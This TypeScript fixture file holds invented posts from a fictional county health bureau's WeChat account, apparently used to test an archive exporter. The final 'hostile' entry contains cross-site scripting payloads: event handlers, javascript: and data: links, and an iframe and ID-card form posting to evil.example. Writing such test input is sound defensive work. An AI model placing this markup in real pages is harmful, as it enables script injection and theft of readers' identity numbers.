// Invented posts of 2021 to 2023. Data only.
import { say } from './post.ts'
import type { Post } from './post.ts'

const dated = [{ as: 'dated' }] as const
const folder = [{ as: 'folder' }] as const

export const POSTS_2021: readonly Post[] = [
  {
    id: 'policy-1', at: '2021-03-01 09:00:00', title: '青石县卫生健康局关于印发《村卫生室管理办法》的通知', author: '基层卫生科', copies: folder, lists: ['exporter'], readMore: 'http://www.qingshi.gov.cn/wsj/zcwj/202103/P020210301.pdf',
    body: ['青卫健〔2021〕7号', '各乡镇卫生院、县直医疗卫生单位：', '现将《青石县村卫生室管理办法》印发给你们，请认真贯彻执行。', '# 第一章　总则', '第一条　为加强村卫生室管理，提高农村基本医疗卫生服务水平，制定本办法。', '第二条　本办法所称村卫生室，是指经批准设置的村级医疗卫生机构。', '# 第二章　人员', '第三条　在村卫生室执业的人员应当依法取得相应资格。', '青石县卫生健康局', '2021年2月26日'],
    expect: say('policy'), odd: ['阅读原文 to a PDF on the county site'],
  },
  {
    id: 'policy-2', at: '2021-03-01 09:00:00', idx: 2, title: '《青石县村卫生室管理办法》解读', author: '基层卫生科', copies: folder, lists: ['exporter'],
    body: (k) => ['# 一、为什么要制定这个办法', '原办法施行已满五年，部分条款不适应乡村医疗卫生体系改革的要求。', '# 二、主要变化', '明确村卫生室“县管乡用村服务”；明确药品和财务管理要求。', `全文见：${k.own('policy-1', '管理办法', 'short')}。`],
    expect: say('interpretation', { warn: ['link-own-unresolved'] }), odd: ['link to an own post by a short link that nothing in the archive ties to that post'],
  },
  {
    id: 'vaccine-q', at: '2021-04-12 11:00:00', title: '新冠疫苗接种十问十答', copies: dated, lists: ['csv'],
    body: ['# 问：哪些人可以接种？', '答：18周岁及以上、无禁忌证的人群。', '# 问：在哪里接种？', '答：全县15个接种点，就近接种。', '![map-site.png]'],
    expect: say('interpretation'),
  },
  {
    id: 'video', at: '2021-05-25 08:30:00', title: '七步洗手法健康教学视频', copies: [{ as: 'folder', media: { 'wxv_1880000000000000042.mp4': 'mp4' } }], lists: ['exporter'],
    body: ['<p style="text-align: center;"><iframe class="video_iframe rich_pages" data-mpvid="wxv_1880000000000000042" data-src="https://mp.weixin.qq.com/mp/readtemplate?t=pages/video_player_tmpl&amp;action=mpvideo&amp;auto=0&amp;vid=wxv_1880000000000000042" src="./assets/wxv_1880000000000000042.mp4" data-cover="http%3A%2F%2Fmmbiz.qpic.cn%2Fmmbiz_jpg%2Fdemo%2F0%3Fwx_fmt%3Djpeg" data-vidtype="2" data-ratio="1.7777777777777777" data-w="960" frameborder="0" allowfullscreen="true"></iframe></p>', '跟着视频学洗手：内、外、夹、弓、大、立、腕。'],
    expect: say('health', { maybe: ['media-remote'] }), odd: ['video in an iframe, with its mp4 beside the page, named by its video id'],
  },
  {
    id: 'stripped', at: '2021-06-18 10:00:00', title: '县疾控中心开展消毒技能竞赛', copies: [{ as: 'folder', stripped: 'nameless' }], lists: [], nameless: true,
    body: ['6月17日，县疾控中心组织开展消毒技能竞赛，32名选手参加。', '![people-contest.jpg]', '经过理论和操作两轮比拼，评出一等奖2名。'],
    expect: say('news', { warn: ['identity-weak'] }), odd: ['exporter page without scripts, metadata or address: known by its file; its time is still in `#publish_time`'],
  },
  {
    id: 'video-qq', at: '2021-07-07 16:40:00', title: '县卫健局开展应急演练活动', copies: folder, lists: ['exporter'],
    body: ['7月6日，县卫健局组织开展突发公共卫生事件应急演练。', '<p><iframe class="video_iframe" data-vidtype="1" allowfullscreen="" frameborder="0" data-ratio="1.7647" data-w="480" scrolling="no" data-src="https://v.qq.com/iframe/preview.html?vid=q0000000042&amp;width=500&amp;height=375&amp;auto=0"></iframe></p>', '![scene-drill.jpg]'],
    expect: say('news', { hold: ['video-not-stored'] }), odd: ['Tencent video that was never saved'],
  },
  {
    id: 'covid-temp-2', at: '2021-08-04 23:10:00', title: '青石县疫情防控措施通告（2021年第8号）', copies: dated, lists: ['csv'],
    body: ['即日起，全县各类公共场所严格落实扫码、测温、戴口罩措施。', '县疫情防控指挥部，电话0740-2210119。'],
    expect: { column: null, state: 'archived' },
  },
  {
    id: 'miniapp', at: '2021-09-10 10:00:00', title: '县人民医院网上预约挂号操作指南', copies: folder, lists: ['exporter'],
    body: (k) => ['患者可通过小程序预约一周内的号源。', '<p><a class="weapp_text_link js_weapp_entry" style="font-size:17px;" data-miniprogram-type="text" data-miniprogram-appid="wx00c0ffee00420042" data-miniprogram-path="pages/register/index" data-miniprogram-nickname="青石健康" href="">点击进入预约挂号</a></p>', '<section class="mp_miniprogram_iframe_wrp"><mp-miniprogram class="miniprogram_element" data-miniprogram-appid="wx00c0ffee00420042" data-miniprogram-path="pages/report/index" data-miniprogram-nickname="青石健康" data-miniprogram-title="检验报告查询" data-miniprogram-imageurl="http://mmbiz.qpic.cn/mmbiz_png/demo/0?wx_fmt=png"></mp-miniprogram></section>', k.list(['选择科室', '选择医生和时间', '填写就诊人', '到院取号'], 'ol')],
    expect: say('services', { warn: ['service-link'] }), odd: ['mini-program text link and mini-program card'],
  },
  {
    id: 'profile', at: '2021-11-14 09:40:00', title: '联合国糖尿病日：健康科普专栏', copies: folder, lists: ['exporter'],
    body: (k) => ['11月14日是联合国糖尿病日。<a class="wx_topic_link" topic-id="ktq42abc-x1y2z3" style="color: #576B95 !important;" data-topic="1">#糖尿病日</a>', '![pie-sugar.png]', '管住嘴、迈开腿、测血糖、遵医嘱。', k.profile()],
    expect: say('health', { info: ['content-dropped'] }), odd: ['account card (`mp-common-profile`)', 'topic link (`wx_topic_link`) without address'],
  },
  {
    id: 'test-push', at: '2021-12-01 15:15:00', title: '【测试】请勿转发', copies: folder, lists: ['exporter'], body: ['这是一条测试推送。'],
    expect: { column: null, state: 'excluded' }, odd: ['left out by a mapping rule, with reason and person'],
  },
  {
    id: 'edited', at: '2022-03-08 09:00:00', title: '全县医疗机构名单公告（2022年3月更新）', modifiedAt: '2022-03-09 15:20:00',
    copies: [{ as: 'folder' }, { as: 'folder', name: '全县医疗机构名单公告（2022年3月）_旧', title: '全县医疗机构名单公告（2022年3月）', body: ['截至2022年3月，全县共有医疗机构231家。', '其中县级医院4家，乡镇卫生院14家，村卫生室198家，民营医院3家，诊所12家。'] }], lists: ['exporter'],
    body: ['截至2022年3月，全县共有医疗机构232家。', '其中县级医院4家，乡镇卫生院14家，村卫生室198家，民营医院3家，诊所13家（更正：原文漏列1家诊所）。'],
    expect: say('public-notices', { warn: ['title-conflict'], info: ['edited-after-publish', 'duplicate-copy'] }), odd: ['edited after publishing (`modify_time`), and both versions are in the archive under two titles'],
  },
  {
    id: 'deleted', at: '2022-04-18 17:00:00', title: '关于暂停部分门诊服务的通知', template: 'error', copies: [{ as: 'page', name: '已删除-暂停部分门诊服务' }], error: { style: 'deleted', page: 'deleted' }, body: [''],
    expect: { column: null, state: 'gone', page: 'deleted' }, odd: ['deleted by its publisher: the real error page'],
  },
  {
    id: 'links', at: '2022-05-16 10:30:00', title: '便民服务：常用链接汇总', copies: folder, lists: ['exporter'],
    body: (k) => [
      '为方便群众查询，汇总如下：',
      k.list([k.own('sign', '家庭医生签约服务指南'), k.own('policy-2', '村卫生室管理办法解读', 'short'), k.own('miniapp', '预约挂号操作指南', 'short'), k.own('deleted', '暂停部分门诊服务'), k.own('NOWHERE', '2015年旧文（已不在归档中）'), '<a href="http://www.qingshi.gov.cn/bsfw/">县政府网站办事服务</a>']),
      '> 如链接失效，请拨打0740-2210088。',
    ],
    expect: say('services', { warn: ['link-own-unresolved'] }), odd: ['links to own posts, long and short; one to the deleted post, one to a post that is not in the archive'],
  },
  {
    id: 'amp', at: '2022-06-20 08:00:00', title: '“三减三健”健康生活方式', copies: dated, lists: ['csv'],
    body: ['减盐、减油、减糖，健康口腔、健康体重、健康骨骼。', '![chart-salt.png]', '全角电话：０７４０－２２１００８８；零\u200b宽\u200b空\u200b格\u200b也\ufeff在这里。', '更多：<a href="http://www.qingshi.gov.cn/jk.html?a=1&amp;amp;b=2">健康专栏</a>'],
    expect: say('health'), odd: ['full-width digits, zero-width spaces, BOM inside a text', '`&amp;amp;` in addresses (page and CSV)'],
  },
  {
    id: 'violation', at: '2022-08-15 18:18:00', title: '转发有礼活动', template: 'error', copies: [{ as: 'page', name: '违规-转发有礼' }], error: { style: 'violation', page: 'violation' }, body: [''],
    expect: { column: null, state: 'held', page: 'violation', failure: ['page-violation'] }, odd: ['blocked for a violation'],
  },
  {
    id: 'unavailable', at: '2022-09-05 09:09:00', title: '核酸检测点调整', template: 'error', copies: [{ as: 'page', name: '暂时无法查看-检测点' }], error: { style: 'unavailable', page: 'unavailable' }, body: [''],
    expect: { column: null, state: 'held', page: 'unavailable', failure: ['page-unavailable'] }, odd: ['“cannot be seen now” page (`.mesg-block`)'],
  },
  {
    id: 'svg', at: '2022-10-10 10:10:00', title: '世界精神卫生日：健康心理互动图', copies: folder, lists: ['exporter'],
    body: ['点击图片，了解情绪管理方法。', '<section style="text-align: center;"><svg viewBox="0 0 1 1" style="float:left;line-height:0;width:0;vertical-align:top;"></svg></section>', '<section style="overflow: hidden;"><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 480 320" style="background-image: url(&quot;{{url:scene-mood.jpg}}&quot;);background-size: 100% auto;width: 100%;"><g opacity="0"><animate attributeName="opacity" begin="click" dur="0.5s" values="0;1" fill="freeze"></animate><rect width="480" height="320"></rect></g></svg></section>', '心理援助热线：0740-2210110。'],
    expect: say('health', { warn: ['svg-interactive'] }), odd: ['svg spacer, and an interactive svg whose picture is only a CSS background'],
  },
  {
    id: 'code', at: '2022-11-22 14:00:00', title: '健康数据接口调用示例（面向医疗机构信息科）', copies: folder, lists: ['exporter'],
    body: ['各医疗机构可参考以下示例调用健康码核验接口。', '<section class="code-snippet__fix code-snippet__js"><ul class="code-snippet__line-index code-snippet__js"><li></li><li></li><li></li></ul><pre class="code-snippet__js" data-lang="javascript"><code><span class="code-snippet_outer">const reply = await fetch(url)</span></code><code><span class="code-snippet_outer">const body = await reply.json()</span></code><code><span class="code-snippet_outer">if (body.code !== 0) throw new Error(body.message)</span></code></pre></section>', '参考规范<sup>[1]</sup>，咨询电话0740-2210077。', '<section><p><strong>参考资料</strong></p><p>[1] <a href="http://www.qingshi.gov.cn/jkgf.html">接口规范</a></p></section>'],
    expect: say('health'), odd: ['code block with one `code` element per line and empty line numbers', 'footnote'],
  },
  {
    id: 'hostile', at: '2023-02-14 03:03:00', title: '健康提醒：谨防养生保健骗局', copies: folder, lists: ['exporter', 'console'],
    body: ['<p onclick="alert(1)" style="width: expression(alert(1));behavior: url(evil.htc)">近期有不法分子冒充我局工作人员推销保健品，请勿轻信。</p>', '<script>document.write("<p>inserted</p>")</script>', '<p><img src="{{url:scene-fraud.jpg}}" onerror="alert(1)" data-w="480" data-ratio="0.6667"></p>', '<p><a href="javascript:alert(1)">领取礼品</a>　<a href="&#x6a;avascript:alert(2)">登记</a>　<a href="data:text/html,<script>alert(3)</script>">查询</a></p>', '<iframe src="http://evil.example/frame" width="1" height="1"></iframe><form action="http://evil.example/post"><input name="idcard" placeholder="身份证号"><button>提交</button></form>', '<object data="http://evil.example/x.swf"></object><svg onload="alert(4)"><a xlink:href="javascript:alert(5)"><text>点我</text></a></svg><math><mi xlink:href="javascript:alert(6)">x</mi></math>', '如遇类似情况，请拨打0740-2210088核实。'],
    expect: say('health', { maybe: ['content-lost', 'link-broken', 'service-link', 'svg-interactive', 'media-missing'] }), odd: ['hostile markup: scripts, handlers, `javascript:` and `data:` links, iframe, form, object, style expression'],
  },
]
